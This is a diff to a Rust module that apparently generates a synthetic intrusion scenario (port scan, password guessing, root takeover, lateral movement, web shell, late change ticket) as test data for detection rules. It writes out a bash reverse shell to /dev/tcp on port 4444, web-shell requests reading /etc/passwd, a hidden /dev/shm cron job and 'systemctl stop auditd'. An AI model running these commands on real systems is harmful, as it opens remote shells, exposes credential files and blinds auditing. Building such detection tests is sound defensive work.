@@ -1,35 +1,35 @@
-//! One intrusion, told over ten minutes, and the honest administrator whose ticket came late.
+//! One intrusion over ten minutes, and an honest administrator whose ticket arrives late.
 
 use rand::Rng;
 use rand::seq::SliceRandom;
 
-use crate::company::LENGTH_SECONDS;
-use crate::lines::Request;
+use crate::company::{CompanyHost, LENGTH_SECONDS};
+use crate::lines::WebRequest;
 use crate::scenario::DeliveryTransport;
-use crate::script::{Method, Script};
+use crate::script::{AgentReport, BlockedPacket, CronJob, LoginMethod, Script, Ticket};
 
-/// When the intrusion begins.
+/// Start of the intrusion, in seconds.
 const BEGIN: i64 = 300;
 
-/// Accounts that no host of the company has.
+/// Accounts that do not exist in the company.
 const UNKNOWN_ACCOUNTS: [&str; 5] = ["admin", "oracle", "postgres", "test", "ubuntu"];
 
-/// Who takes part, drawn from the seed.
+/// People and hosts of the intrusion, drawn from the seed.
 struct Cast {
     attacker: String,
-    /// Whose password is guessed.
+    /// The account whose password is guessed.
     victim: String,
-    /// Who has a ticket that comes late.
+    /// The administrator whose ticket arrives late.
     administrator: String,
     jump: String,
     jump_address: String,
     web: String,
-    database: (String, String),
-    /// Hosts that are visited from the jump host.
+    database: CompanyHost,
+    /// Hosts that the intruder logs in to from the jump host.
     visited: Vec<String>,
 }
 
-/// Tells it all.
+/// Writes the whole intrusion.
 pub(crate) fn write(script: &mut Script<'_>) {
     let cast = cast(script);
     scan(script, &cast);
@@ -55,10 +55,7 @@ fn cast(script: &mut Script<'_>) -> Cast {
         jump: company.jump.name.clone(),
         jump_address: company.jump.address.clone(),
         web: company.web[web].name.clone(),
-        database: (
-            company.databases[database].name.clone(),
-            company.databases[database].address.clone(),
-        ),
+        database: company.databases[database].clone(),
         visited: applications
             .into_iter()
             .take(8)
@@ -76,8 +73,13 @@ fn scan(script: &mut Script<'_>, cast: &Cast) {
     } = cast;
     script.narrate(BEGIN, format!("{attacker} scans the ports of {jump}"));
     for n in 0..40_u16 {
-        let between = (attacker.as_str(), jump_address.as_str());
-        script.blocked(BEGIN + i64::from(n), jump, true, between, 20 + 7 * n);
+        let packet = BlockedPacket {
+            incoming: true,
+            source: attacker,
+            destination: jump_address,
+            port: 20 + 7 * n,
+        };
+        script.blocked(BEGIN + i64::from(n), jump, &packet);
     }
     script.expect(
         "firewall_port_scan",
@@ -126,8 +128,8 @@ fn guess(script: &mut Script<'_>, cast: &Cast) {
         login,
         format!("a guess was right: {attacker} logs in as {victim}"),
     );
-    script.ssh_accepted(login, jump, victim, attacker, Method::Password);
-    // Each unknown account was tried twice, beginning with the first attempt of all.
+    script.ssh_accepted(login, jump, victim, attacker, LoginMethod::Password);
+    // Each unknown account was tried twice, starting with the very first attempt.
     let count = 2 * UNKNOWN_ACCOUNTS.len() as u64 + 1;
     script.expect("ssh_guessed_login", &[attacker], begin, login, count);
 }
@@ -149,21 +151,20 @@ fn take_root(script: &mut Script<'_>, cast: &Cast) {
     script.expect("sudo_download_and_run", &[jump], second, second, 1);
 
     let line = format!("bash -c bash -i >& /dev/tcp/{attacker}/4444 0>&1");
-    script.report(
-        (second + 20, second + 20),
-        jump,
-        (
-            "process_creation",
-            "category=process_creation,product=linux",
-        ),
-        &[
+    script.report(&AgentReport {
+        second: second + 20,
+        sent: second + 20,
+        host: jump,
+        kind: "process_creation",
+        logsource: "category=process_creation,product=linux",
+        fields: &[
             ("Image", "/usr/bin/bash"),
             ("CommandLine", &line),
             ("ParentImage", "/bin/sh"),
             ("User", "root"),
         ],
-        &["process_reverse_shell"],
-    );
+        members: &["process_reverse_shell"],
+    });
     script.expect(
         "process_reverse_shell",
         &[jump],
@@ -192,7 +193,10 @@ fn stay(script: &mut Script<'_>, cast: &Cast) {
 
     let seconds: Vec<i64> = (BEGIN + 360..LENGTH_SECONDS).step_by(60).collect();
     for &second in &seconds {
-        let job = ("root", "/dev/shm/.sync/update.sh >/dev/null 2>&1");
+        let job = CronJob {
+            user: "root",
+            command: "/dev/shm/.sync/update.sh >/dev/null 2>&1",
+        };
         script.cron(
             DeliveryTransport::Tcp,
             second,
@@ -211,7 +215,7 @@ fn stay(script: &mut Script<'_>, cast: &Cast) {
         count,
     );
 
-    // Nobody granted this change, and nobody will.
+    // This change never gets a ticket.
     let command = "/usr/bin/systemctl stop auditd";
     let members = ["sudo_maintenance", "sudo_watch_stopped"];
     script.sudo(BEGIN + 330, jump, victim, command, &members);
@@ -241,7 +245,7 @@ fn spread(script: &mut Script<'_>, cast: &Cast) {
         format!("{victim} goes from {jump} to {} more hosts", visited.len()),
     );
     for (second, host) in (begin..).step_by(12).zip(visited) {
-        script.ssh_accepted(second, host, victim, jump_address, Method::PublicKey);
+        script.ssh_accepted(second, host, victim, jump_address, LoginMethod::PublicKey);
     }
     let last = begin + 12 * (visited.len() as i64 - 1);
     script.expect(
@@ -252,14 +256,23 @@ fn spread(script: &mut Script<'_>, cast: &Cast) {
         visited.len() as u64,
     );
 
-    let (host, address) = database;
+    let CompanyHost {
+        name: host,
+        address,
+    } = database;
     let begin = BEGIN + 470;
     script.narrate(
         begin,
         format!("{host} tries to reach {attacker}, and its firewall says no"),
     );
     for n in 0..12 {
-        script.blocked(begin + 10 * n, host, false, (address, attacker), 4444);
+        let packet = BlockedPacket {
+            incoming: false,
+            source: address,
+            destination: attacker,
+            port: 4444,
+        };
+        script.blocked(begin + 10 * n, host, &packet);
     }
     script.expect("firewall_denied_egress", &[address], begin, begin + 110, 12);
 }
@@ -271,7 +284,7 @@ fn web_server(script: &mut Script<'_>, cast: &Cast) {
         begin,
         format!("{attacker} looks around on {web}, and finds the shell it left"),
     );
-    let browser = Request {
+    let browser = WebRequest {
         client: attacker,
         method: "GET",
         target: "",
@@ -281,7 +294,7 @@ fn web_server(script: &mut Script<'_>, cast: &Cast) {
     };
     for n in 0..30 {
         let target = format!("/backup/{}.zip", 2_000 + n);
-        let request = Request {
+        let request = WebRequest {
             target: &target,
             ..browser
         };
@@ -301,7 +314,7 @@ fn web_server(script: &mut Script<'_>, cast: &Cast) {
         .zip(["id", "uname%20-a", "cat%20/etc/passwd"])
     {
         let target = format!("/uploads/2026/avatar.php?cmd={command}");
-        let request = Request {
+        let request = WebRequest {
             target: &target,
             status: 200,
             bytes: 911,
@@ -349,10 +362,15 @@ fn late_ticket(script: &mut Script<'_>, cast: &Cast) {
         second + 20,
         2,
     );
-    script.expect_its_retraction();
+    script.expect_retraction();
 
-    let (granted, sent) = (second - 240, second + 360);
-    script.ticket((granted, sent), name, 48_113);
+    let sent = second + 360;
+    script.ticket(&Ticket {
+        granted: second - 240,
+        sent,
+        user: name,
+        number: 48_113,
+    });
     script.narrate(
         sent,
         format!("the ticket system catches up: {name} had a ticket, so the alert was wrong"),
